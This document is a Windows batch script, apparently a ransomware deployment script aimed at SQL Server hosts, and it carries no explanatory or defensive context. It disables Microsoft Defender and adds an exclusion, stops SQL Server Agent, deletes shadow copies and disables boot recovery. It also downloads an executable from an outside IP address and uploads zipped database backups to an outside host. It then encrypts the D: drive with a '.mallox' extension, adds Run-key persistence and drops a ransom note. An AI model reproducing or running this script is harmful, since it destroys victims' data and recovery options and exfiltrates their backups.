@echo off
powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\ProgramData"
sc config WinDefend start= disabled
net stop "SQL Server Agent (MSSQLSERVER)" /y
vssadmin delete shadows /all /quiet
bcdedit /set {current} recoveryenabled no
powershell -c "iwr -useb http://198.51.100.190/sqlmon.exe -o C:\ProgramData\sqlmon.exe"
powershell -c "Compress-Archive D:\Data\*.bak C:\ProgramData\b.zip; iwr -useb -Method Put -InFile C:\ProgramData\b.zip https://sql-mon.example.com/up/%COMPUTERNAME%"
C:\ProgramData\sqlmon.exe -path D:\ -ext .mallox
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v sqlmon /d C:\ProgramData\sqlmon.exe /f
echo HOW TO BACK FILES.txt > C:\Users\Public\Desktop\HOW TO BACK FILES.txt
